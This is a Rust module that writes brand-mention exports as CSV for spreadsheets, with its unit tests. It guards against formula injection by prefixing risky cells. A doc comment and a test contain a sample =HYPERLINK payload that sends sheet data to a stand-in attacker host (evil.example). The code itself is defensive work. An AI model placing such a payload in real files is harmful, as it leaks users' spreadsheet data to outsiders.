//! CSV for spreadsheets: the export of all mentions (the weekly report's trend CSV is in `report`).

use crate::domain::mention::{EventKind, Status};
use crate::domain::transfer::{ExportEvent, ExportLine};
use chrono::{DateTime, Utc};

/// The byte order mark that opens an exported CSV file: without it, Excel reads UTF-8 as the
/// local code page and å, ä, ö come out as two characters each.
pub const BOM: &str = "\u{feff}";

/// One CSV field, comma-separated: see [`field_with`].
pub fn field(s: &str) -> String {
    field_with(s, ',')
}

/// One CSV field, quoted when it contains the delimiter, a quote, CR or LF, or starts or ends with a
/// space (RFC 4180: quotes inside are doubled). Every CSV Lyssna writes goes through it.
///
/// Scraped text goes into these files, and spreadsheets run a cell that starts with `=`, `+`, `-`,
/// `@`, a tab or a CR as a formula (`=HYPERLINK("http://evil/?"&A1)` leaks the sheet). Such a cell
/// gets a leading `'`, which spreadsheets show as text (OWASP's advice); a plain number such as
/// `-3` or `+0.5` cannot be a formula and is left as it is.
pub fn field_with(s: &str, delimiter: char) -> String {
    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err();
    let s = if formula {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    };
    if s.contains([delimiter, '"', '\r', '\n']) || s.starts_with(' ') || s.ends_with(' ') {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.into_owned()
    }
}

/// A delimiter as written on the command line: one character (`,`, `;`, `|`…) or `tab`. Quotes, line
/// breaks, spaces and letters cannot separate fields readably.
pub fn parse_delimiter(s: &str) -> Result<char, String> {
    let c = match s {
        "tab" | "\\t" | "\t" => '\t',
        _ => {
            let mut chars = s.chars();
            match (chars.next(), chars.next()) {
                (Some(c), None) => c,
                _ => {
                    return Err(format!(
                        "--delimiter '{s}' is not one character (use , ; | or tab)"
                    ));
                }
            }
        }
    };
    if c == '"' || c == '\r' || c == '\n' || c == ' ' || c.is_alphanumeric() {
        return Err(format!(
            "--delimiter {c:?} cannot separate fields (use , ; | or tab)"
        ));
    }
    Ok(c)
}

/// The columns of `export --format csv`: what a person reads in an export line, events summarised.
pub const EXPORT_COLUMNS: [&str; 23] = [
    "id",
    "source",
    "url",
    "thread_url",
    "title",
    "author",
    "published_at",
    "found_at",
    "brands",
    "why_matched",
    "sentiment",
    "sentiment_override",
    "sentiment_score",
    "sentiment_reasons",
    "lang",
    "rating",
    "status",
    "replied_at",
    "replied_by",
    "reply_url",
    "reason",
    "note",
    "until",
];

/// `export --format csv`: a header and one row per mention, for spreadsheets; the text (`body`)
/// last, as it is the longest. `replied_*` and `reply_url` come from the first reply (the one the
/// metrics count); `reason`, `note` and `until` from the change that set the current status. Undone
/// changes are left out. The caller writes [`BOM`] first.
pub fn export_csv(lines: &[ExportLine], delimiter: char) -> Vec<String> {
    let sep = delimiter.to_string();
    let mut header: Vec<&str> = EXPORT_COLUMNS.to_vec();
    header.push("body");
    let mut out = vec![header.join(&sep)];
    let t = |d: Option<DateTime<Utc>>| {
        d.map(|d| d.to_rfc3339_opts(chrono::SecondsFormat::Secs, true))
            .unwrap_or_default()
    };
    for l in lines {
        let undone: std::collections::HashSet<usize> =
            l.events.iter().filter_map(|e| e.undoes).collect();
        let in_force: Vec<&ExportEvent> = l
            .events
            .iter()
            .enumerate()
            .filter(|(i, e)| {
                e.kind == EventKind::Status && e.undoes.is_none() && !undone.contains(i)
            })
            .map(|(_, e)| e)
            .collect();
        let first_reply = in_force
            .iter()
            .find(|e| e.to.as_deref() == Some(Status::Replied.as_str()));
        let current = in_force
            .iter()
            .rev()
            .find(|e| e.to.as_deref() == Some(l.status.as_str()));
        let opt = |v: Option<&String>| v.cloned().unwrap_or_default();
        let fields = [
            l.id.clone().unwrap_or_default(),
            l.source.clone(),
            opt(l.url.as_ref()),
            opt(l.thread_url.as_ref()),
            opt(l.title.as_ref()),
            opt(l.author.as_ref()),
            t(l.published_at),
            t(Some(l.found_at)),
            l.brands.join("; "),
            l.matches
                .iter()
                .flatten()
                .map(|m| format!("{}: {}", m.brand, m.explanation))
                .collect::<Vec<_>>()
                .join("; "),
            l.sentiment.to_string(),
            l.sentiment_override
                .map(|o| o.to_string())
                .unwrap_or_default(),
            l.sentiment_score
                .map(|s| format!("{s:.3}"))
                .unwrap_or_default(),
            l.sentiment_reasons
                .iter()
                .flatten()
                .cloned()
                .collect::<Vec<_>>()
                .join("; "),
            opt(l.lang.as_ref()),
            match (l.rating, l.rating_scale) {
                (Some(r), Some(s)) => format!("{r}/{s}"),
                (Some(r), None) => r.to_string(),
                _ => String::new(),
            },
            l.status.to_string(),
            t(first_reply.map(|e| e.at)),
            first_reply.map(|e| e.actor.clone()).unwrap_or_default(),
            opt(first_reply.and_then(|e| e.reply_url.as_ref())),
            opt(current.and_then(|e| e.reason.as_ref())),
            opt(current.and_then(|e| e.note.as_ref())),
            t(current.and_then(|e| e.until)),
            l.body.clone(),
        ];
        out.push(
            fields
                .iter()
                .map(|f| field_with(f, delimiter))
                .collect::<Vec<_>>()
                .join(&sep),
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::field;

    #[test]
    fn delimiters_quote_their_own_character() {
        assert_eq!(super::field_with("a;b", ';'), "\"a;b\"");
        assert_eq!(super::field_with("a,b", ';'), "a,b");
        assert_eq!(super::field_with("=1;2", ';'), "\"'=1;2\"");
        assert_eq!(super::parse_delimiter(";"), Ok(';'));
        assert_eq!(super::parse_delimiter("tab"), Ok('\t'));
        assert!(super::parse_delimiter(";;").is_err());
        assert!(super::parse_delimiter("\"").is_err());
        assert!(super::parse_delimiter("x").is_err());
    }

    #[test]
    fn fields_are_quoted_when_needed_and_formulas_neutralised() {
        assert_eq!(field("plain"), "plain");
        assert_eq!(field("a,b"), "\"a,b\"");
        assert_eq!(field("say \"hej\""), "\"say \"\"hej\"\"\"");
        assert_eq!(field("two\nlines"), "\"two\nlines\"");
        assert_eq!(field(" padded"), "\" padded\"");
        assert_eq!(
            field("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""
        );
        for f in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "=1"] {
            assert!(field(f).trim_start_matches('"').starts_with('\''), "{f}");
        }
        assert_eq!(field("-3"), "-3");
        assert_eq!(field("+0.5"), "+0.5");
    }
}
